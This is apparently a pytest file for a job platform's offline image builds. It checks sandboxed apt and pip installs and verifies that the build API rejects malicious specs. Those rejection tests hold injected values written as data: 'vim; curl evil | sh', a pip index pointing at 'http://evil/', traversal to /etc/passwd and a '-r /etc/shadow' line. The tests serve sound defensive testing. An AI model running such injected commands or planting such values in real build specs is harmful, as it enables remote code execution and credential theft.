"""Image builds, offline: a spec in the project's repository -> a build job that installs Debian
packages from a local apt repository and Python packages from a local wheel directory, as root
inside the job's user namespace (no capabilities, no network) on a writable copy of the base root.

The base root is made from the host's installed packages (build_fixture.py), so nothing is
downloaded. Two layers are tested:
- the sandbox (`atrium exec` with root_inside + rootfs_writable): apt, dpkg and pip work; a missing
  package fails with apt's error; uid 0 inside has no capabilities; the host root is never writable;
- the API (POST /projects/{id}/images/build): bad specs (shell injection, unknown keys, missing
  files) are refused 422 before anything runs, another tenant's project is 404, and (once the images
  module is wired) a build succeeds, is served from cache the second time and a failed one stores
  nothing.
"""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import uuid
from pathlib import Path

import pytest

from build_fixture import chown_tree, make_apt_repo, make_debian_root, make_wheel_dir
from conftest import ATRIUM_BIN, Server, World, is_problem, wait_until
from images_fixture import build_oci_image, oci_registry  # noqa: F401 (a fixture)

ROOT = os.geteuid() == 0
JOB_UID = 27000 + os.getpid() % 3000 if ROOT else os.getuid()

APT = ["-o", "APT::Sandbox::User=root", "-o", "Dir::Etc::SourceList=/atrium/build/sources.list",
       "-o", "Dir::Etc::SourceParts=/dev/null", "-o", "Acquire::Languages=none", "-o", "Dpkg::Use-Pty=0"]


@pytest.fixture(scope="module")
def mirrors(tmp_path_factory):
    d = tmp_path_factory.mktemp("build-mirrors")
    os.chmod(d, 0o755)
    make_debian_root(d / "base")
    make_apt_repo(d / "apt")
    make_wheel_dir(d / "wheels")
    return d


def run_build(mirrors: Path, tmp: Path, script: str, writable: bool = True, root_inside: bool = True,
              extra: dict | None = None):
    """Runs `script` (sh) in a sandbox on a fresh writable copy of the base root."""
    bundle = tmp / f"b-{uuid.uuid4().hex[:6]}"
    (bundle / "ws").mkdir(parents=True)
    (bundle / "inputs").mkdir()
    subprocess.run(["cp", "-a", "--reflink=auto", str(mirrors / "base"), str(bundle / "rootfs")], check=True)
    (bundle / "inputs/sources.list").write_text("deb [trusted=yes] file:/atrium/mirror/apt ./\n")
    (bundle / "inputs/build.sh").write_text("set -eu\n" + script)
    if ROOT:
        chown_tree(bundle, JOB_UID)
    spec = {"id": "imgb-" + uuid.uuid4().hex[:8], "argv": ["/bin/sh", "/atrium/build/build.sh"],
            "workspace": str(bundle / "ws"), "rootfs": str(bundle / "rootfs"), "rootfs_writable": writable,
            "root_inside": root_inside, "env": {"HOME": "/root"},
            "mounts": [{"source": str(bundle / "inputs"), "target": "/atrium/build"},
                       {"source": str(mirrors / "apt"), "target": "/atrium/mirror/apt"},
                       {"source": str(mirrors / "wheels"), "target": "/atrium/mirror/pip"}],
            "stdout_path": str(bundle / "out"), "stderr_path": str(bundle / "err"), **(extra or {})}
    if ROOT:
        spec["uid"] = JOB_UID
    p = subprocess.run([ATRIUM_BIN, "exec", "--spec", "-"], input=json.dumps(spec), capture_output=True, text=True,
                       timeout=120)
    out = (bundle / "out").read_text() if (bundle / "out").exists() else ""
    err = (bundle / "err").read_text() if (bundle / "err").exists() else ""
    return p.returncode, json.loads(p.stdout) if p.stdout.startswith("{") else None, out, err, bundle


def test_apt_and_pip_install_as_root_inside(mirrors, tmp_path):
    script = (f"apt-get {' '.join(APT)} update\n"
              f"apt-get {' '.join(APT)} install -y atrium-hello\n"
              "python3 -m pip install --no-cache-dir --break-system-packages --root-user-action=ignore "
              "--no-index --find-links /atrium/mirror/pip atrium_tiny\n"
              "id -u; atrium-hello; python3 -c 'import atrium_tiny; print(atrium_tiny.VALUE)'\n")
    rc, outcome, out, err, bundle = run_build(mirrors, tmp_path, script)
    assert rc == 0, (outcome, out, err)
    assert out.splitlines()[-3:] == ["0", "hello from atrium-hello", "42"], out
    assert outcome["enforced"]["filesystem"] == "writable-rootfs"
    assert outcome["enforced"]["uid"].endswith("root-inside")
    assert outcome["enforced"]["capabilities"] == "none" and outcome["enforced"]["network"] == "netns"
    # What was installed is in the root (owned by the job's uid outside), and dpkg knows it.
    hello = bundle / "rootfs/usr/bin/atrium-hello"
    assert hello.exists() and hello.stat().st_uid == JOB_UID
    assert "Package: atrium-hello" in (bundle / "rootfs/var/lib/dpkg/status").read_text()
    assert list((bundle / "rootfs/usr/local/lib").glob("python3*/dist-packages/atrium_tiny/__init__.py"))


def test_a_missing_package_fails_with_apts_error(mirrors, tmp_path):
    rc, outcome, out, err, _ = run_build(
        mirrors, tmp_path, f"apt-get {' '.join(APT)} update\napt-get {' '.join(APT)} install -y atrium-nope\n")
    assert rc == 100 and outcome["kind"] == "exited", (outcome, out, err)
    assert "Unable to locate package atrium-nope" in err
    rc, _, out, err, _ = run_build(mirrors, tmp_path,
                                   "python3 -m pip install --break-system-packages --no-index "
                                   "--find-links /atrium/mirror/pip no-such-wheel\n")
    assert rc != 0 and "No matching distribution found for no-such-wheel" in err


def test_root_inside_has_no_capabilities_and_no_host_root(mirrors, tmp_path):
    script = ("grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status\n"
              "touch /etc/made-inside && echo wrote-etc\n"
              "if chown 1234 /etc/made-inside 2>/dev/null; then echo CHOWNED; else echo no-chown; fi\n"
              "if mount -t tmpfs x /mnt 2>/dev/null; then echo MOUNTED; else echo no-mount; fi\n"
              "if ls /atrium/mirror/apt >/dev/null && touch /atrium/mirror/apt/x 2>/dev/null; then echo MIRROR-RW; "
              "else echo mirror-ro; fi\n")
    rc, outcome, out, err, bundle = run_build(mirrors, tmp_path, script)
    assert rc == 0, (outcome, out, err)
    for cap in ("CapEff", "CapPrm", "CapBnd"):
        assert f"{cap}:\t0000000000000000" in out, out
    assert "wrote-etc" in out and "no-chown" in out and "no-mount" in out and "mirror-ro" in out, out
    assert (bundle / "rootfs/etc/made-inside").exists()
    # Without rootfs_writable the same root is read-only, root inside or not.
    rc, _, out, err, _ = run_build(mirrors, tmp_path, "touch /usr/x 2>&1 || echo read-only\n", writable=False)
    assert rc == 0 and "read-only" in out, (out, err)
    # A writable root needs an image root: never the host's.
    spec = {"id": "imgb-host", "argv": ["/bin/true"], "workspace": str(tmp_path), "rootfs_writable": True}
    p = subprocess.run([ATRIUM_BIN, "exec", "--spec", "-"], input=json.dumps(spec), capture_output=True, text=True)
    assert p.returncode == 2 and "rootfs_writable" in p.stderr + p.stdout


# ---------------------------------------------------------------------------- the API


@pytest.fixture(scope="module")
def srv(tmp_path_factory, mirrors):
    env = {"ATRIUM_IMAGES_INSECURE_REGISTRIES": "127.0.0.1:*",
           "ATRIUM_IMAGE_BUILDS_APT_MIRROR": f"[trusted=yes] file://{mirrors}/apt ./",
           "ATRIUM_IMAGE_BUILDS_PIP_INDEX_URL": f"file://{mirrors}/wheels",
           "ATRIUM_IMAGE_BUILDS_CPUS": "1", "ATRIUM_IMAGE_BUILDS_MEM_MB": "1024"}
    s = Server(tmp_path_factory.mktemp("imgbuild"), env=env).start()
    s.admin = s.admin_token()
    try:
        yield s
    finally:
        s.stop()


@pytest.fixture(scope="module")
def w(srv) -> World:
    return World(srv, srv.admin, prefix="ib")


def put_file(srv, tok, pid, path, content):
    head = srv.call("GET", f"/api/v1/projects/{pid}/repo/branches", tok)
    names = {b["name"]: b["commit"] for b in head.json.get("items", [])} if head.status == 200 else {}
    hdr = {"If-Match": f'"{names["main"]}"'} if "main" in names else {"If-None-Match": "*"}
    r = srv.call("PUT", f"/api/v1/projects/{pid}/repo/files/{path}", tok,
                 json={"branch": "main", "content": content, "message": f"add {path}"}, headers=hdr)
    assert r.status in (200, 201), r
    return r.json["commit"]


SPEC = """[image]
name = "analysis"
base = "debian-base"
apt = ["atrium-hello"]
requirements = "requirements.txt"
"""


def test_bad_specs_are_refused_before_anything_runs(srv, w):
    owner = w.a.users["org-admin"].token
    pid = w.a.project["id"]
    put_file(srv, owner, pid, "requirements.txt", "atrium_tiny==1.0\n")
    cases = {
        "inject.toml": ('[image]\nname = "x"\nbase = "debian-base"\napt = ["vim; curl evil | sh"]\n', "apt[0]"),
        "pipopt.toml": ('[image]\nname = "x"\nbase = "debian-base"\npip = ["--index-url=http://evil/ x"]\n', "pip[0]"),
        "unknown.toml": ('[image]\nname = "x"\nbase = "debian-base"\napt = ["vim"]\nrun = "id"\n', "image.run"),
        "reqopt.toml": ('[image]\nname = "x"\nbase = "debian-base"\nrequirements = "bad.txt"\n', "bad.txt line 1"),
        "escape.toml": ('[image]\nname = "x"\nbase = "debian-base"\nrequirements = "../../etc/passwd"\n', "leaves"),
    }
    put_file(srv, owner, pid, "bad.txt", "-r /etc/shadow\n")
    for path, (text, words) in cases.items():
        put_file(srv, owner, pid, path, text)
    jobs_before = srv.call("GET", f"/api/v1/projects/{pid}/jobs", owner).json["items"]
    for path, (text, words) in cases.items():
        r = srv.call("POST", f"/api/v1/projects/{pid}/images/build", owner, json={"spec": path})
        assert is_problem(r, 422), (path, r)
        assert words in r.json["detail"], (path, r.json)
    r = srv.call("POST", f"/api/v1/projects/{pid}/images/build", owner, json={"spec": "nope.toml"})
    assert is_problem(r, 422) and r.json.get("field") == "spec"
    # Bad request fields: 400.
    r = srv.call("POST", f"/api/v1/projects/{pid}/images/build", owner, json={"spec": "../x.toml"})
    assert is_problem(r, 400) and r.json.get("field") == "spec"
    r = srv.call("POST", f"/api/v1/projects/{pid}/images/build", owner, json={"spec": "inject.toml", "extra": 1})
    assert is_problem(r, 400)
    r = srv.call("POST", f"/api/v1/projects/{pid}/images/build", owner, json={"spec": "inject.toml", "ref": "nope"})
    assert is_problem(r, 400) and r.json.get("field") == "ref"
    # Nothing ran, nothing was recorded as a build.
    assert srv.call("GET", f"/api/v1/projects/{pid}/jobs", owner).json["items"] == jobs_before
    # Another tenant's project: 404 whatever the body; a viewer may not build.
    r = srv.call("POST", f"/api/v1/projects/{pid}/images/build", w.b.users["org-admin"].token, json={"spec": "x"})
    assert is_problem(r, 404)
    r = srv.call("GET", f"/api/v1/projects/{pid}/images/builds/imb-nope", w.b.users["org-admin"].token)
    assert is_problem(r, 404)
    r = srv.call("POST", f"/api/v1/projects/{pid}/images/build", w.a.users["viewer"].token, json={"spec": "x"})
    assert r.status in (403, 404)


@pytest.fixture(scope="module")
def base_image(srv, w, mirrors, oci_registry, tmp_path_factory):
    """The Debian base root as an image of A's project, pulled from the test registry."""
    layout = build_oci_image(mirrors / "base", tmp_path_factory.mktemp("base-oci") / "layout", "v1")
    oci_registry.push(layout, "v1", "test/debian-base")
    owner = w.a.users["org-admin"].token
    pid = w.a.project["id"]
    r = srv.call("POST", f"/api/v1/projects/{pid}/images", owner,
                 json={"name": "debian-base", "source": oci_registry.ref("test/debian-base", "v1")})
    assert r.status in (200, 201, 202), r
    im = wait_until(lambda: (lambda j: j if j["state"] != "pending" else None)(
        srv.call("GET", f"/api/v1/images/{r.json['id']}", owner).json), 120, what="the base pull")
    assert im["state"] == "ready", im
    return im


def build_state(srv, tok, pid, build_id, timeout=80):
    def done():
        b = srv.call("GET", f"/api/v1/projects/{pid}/images/builds/{build_id}", tok).json
        return b if b["state"] != "running" else None
    return wait_until(done, timeout, interval=0.2, what="the build")


def test_build_then_cache_then_failure(srv, w, base_image):
    owner = w.a.users["org-admin"].token
    pid = w.a.project["id"]
    put_file(srv, owner, pid, "requirements.txt", "atrium_tiny==1.0\n")
    put_file(srv, owner, pid, "atrium-env.toml", SPEC)
    r = srv.call("POST", f"/api/v1/projects/{pid}/images/build", owner, json={})
    assert r.status == 201, r
    build = r.json
    assert build["state"] == "running" and build["job_id"] and build["apt"] == ["atrium-hello"]
    assert build["pip"] == ["atrium_tiny==1.0"] and build["cached"] is False
    # The build job is managed by images: no hold/requeue through the jobs API; its log is a job's.
    job = srv.call("GET", f"/api/v1/jobs/{build['job_id']}", owner).json
    assert job["name"] == "image build: analysis"
    b = build_state(srv, owner, pid, build["id"])
    out = srv.call("GET", f"/api/v1/jobs/{build['job_id']}/logs", owner).body.decode()
    err = srv.call("GET", f"/api/v1/jobs/{build['job_id']}/logs?stream=stderr", owner).body.decode()
    assert b["state"] == "ready", (b, out, err)
    assert "Setting up atrium-hello" in out and "Successfully installed atrium_tiny" in out, out
    assert b["digest"].startswith("sha256:") and b["image_id"]
    im = srv.call("GET", f"/api/v1/images/{b['image_id']}", owner).json
    assert im["state"] == "ready" and im["name"] == "analysis" and im["digest"] == b["digest"]
    assert im["source"] == f"build:atrium-env.toml@{b['commit']}"
    assert im["software"]["os"]["ID"] == "atrium-build-base"
    # A job on the built image runs the installed command and imports the module.
    r = srv.call("POST", f"/api/v1/projects/{pid}/jobs", owner,
                 json={"image": "analysis", "command": ["/bin/sh", "-c",
                       "atrium-hello && python3 -c 'import atrium_tiny; print(atrium_tiny.VALUE)'"]})
    assert r.status == 201, r
    jid = r.json["id"]
    j = wait_until(lambda: (lambda x: x if x["state"] not in ("PENDING", "RUNNING") else None)(
        srv.call("GET", f"/api/v1/jobs/{jid}", owner).json), 60, what="the job on the built image")
    log = srv.call("GET", f"/api/v1/jobs/{jid}/logs", owner).body.decode()
    assert j["state"] == "COMPLETED" and log.split() == ["hello", "from", "atrium-hello", "42"], (j, log)
    # The same inputs again: served from cache, no job (another spec path, same content, same hash).
    jobs_before = len(srv.call("GET", f"/api/v1/projects/{pid}/jobs", owner).json["items"])
    r = srv.call("POST", f"/api/v1/projects/{pid}/images/build", owner, json={"spec": "atrium-env.toml"})
    assert r.status == 200 and r.json["cached"] is True and r.json["job_id"] is None, r
    assert r.json["digest"] == b["digest"] and r.json["image_id"] == b["image_id"]
    assert len(srv.call("GET", f"/api/v1/projects/{pid}/jobs", owner).json["items"]) == jobs_before
    # Changed inputs under a taken name: 409 before any job.
    put_file(srv, owner, pid, "requirements.txt", "atrium_tiny\n")
    r = srv.call("POST", f"/api/v1/projects/{pid}/images/build", owner, json={})
    assert is_problem(r, 409) and r.json.get("field") == "image.name"
    # A package that does not exist: failed, apt's error in the log, nothing stored.
    images_before = srv.call("GET", f"/api/v1/projects/{pid}/images", owner).json["items"]
    put_file(srv, owner, pid, "broken.toml", SPEC.replace("atrium-hello", "atrium-nope").replace("analysis", "broken"))
    # Through the CLI, following the log: apt's error streams, the build ends failed (exit 1).
    p = subprocess.run([ATRIUM_BIN, "image", "build", pid, "broken.toml", "--follow", "--server", srv.base,
                        "--token", owner], capture_output=True, text=True, timeout=80,
                       env={k: v for k, v in os.environ.items() if not k.startswith("ATRIUM_")})
    assert p.returncode != 0 and "Unable to locate package atrium-nope" in p.stdout, (p.stdout, p.stderr)
    build_id = next(w for w in p.stdout.split() if w.startswith("imb_"))
    assert f"Build {build_id} failed" in p.stdout
    failed = build_state(srv, owner, pid, build_id)
    assert failed["state"] == "failed" and failed["job_id"] in failed["error"], failed
    log = srv.call("GET", f"/api/v1/jobs/{failed['job_id']}/logs?stream=stderr", owner).body.decode()
    assert "Unable to locate package atrium-nope" in log
    assert srv.call("GET", f"/api/v1/projects/{pid}/images", owner).json["items"] == images_before
    assert not list((srv.data_dir / "images/builds").iterdir())
